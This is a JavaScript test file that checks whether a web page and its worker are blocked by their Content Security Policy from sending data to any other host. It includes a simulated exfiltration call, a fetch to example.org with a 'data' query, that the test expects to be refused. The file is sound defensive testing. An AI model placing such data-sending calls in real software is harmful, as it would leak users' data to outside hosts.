// The page's policy holds in the page and in its worker: no other machine is asked for anything.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { PATIENCE, startSite } from "./harness.mjs";
import { reads } from "./user.mjs";

/** @type {import("./harness.mjs").Site} */
let site;
before(async () => {
  site = await startSite();
});
after(() => site.close());

/** What a script that wants to send data away would do. */
const send = () =>
  fetch("https://example.org/?data").then(
    () => "sent",
    () => "refused",
  );

test("neither the page nor its worker can send data away", { timeout: PATIENCE }, async () => {
  const { page, errors, close } = await site.open({ device: "cpu" });
  await reads(page, "#device-sentence", /\w+/);
  const [worker] = page.workers();
  assert.equal(await page.evaluate(send), "refused");
  assert.equal(await worker.evaluate(send), "refused");
  // The proxy refuses, too; the policy is what keeps it from being asked at all.
  assert.deepEqual(site.asked, []);
  assert.equal(errors.filter((line) => line.includes("Content Security Policy")).length, 2, errors.join("\n"));
  await close();
});
